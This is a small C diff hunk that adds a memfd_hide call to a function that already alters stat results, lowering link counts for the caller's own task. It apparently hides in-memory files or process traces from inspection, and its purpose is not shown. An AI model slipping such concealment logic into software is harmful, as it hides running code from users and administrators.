@@ -85,6 +85,8 @@ static int without_helper(int ret, struct stat *st)
 	if (!ret && st->st_mode == TASK_MODE && !st->st_size && st->st_nlink >= LINKS_MIN &&
 	    is_own_task(st))
 		st->st_nlink--;
+	if (!ret)
+		memfd_hide(st);
 	return ret;
 }
 
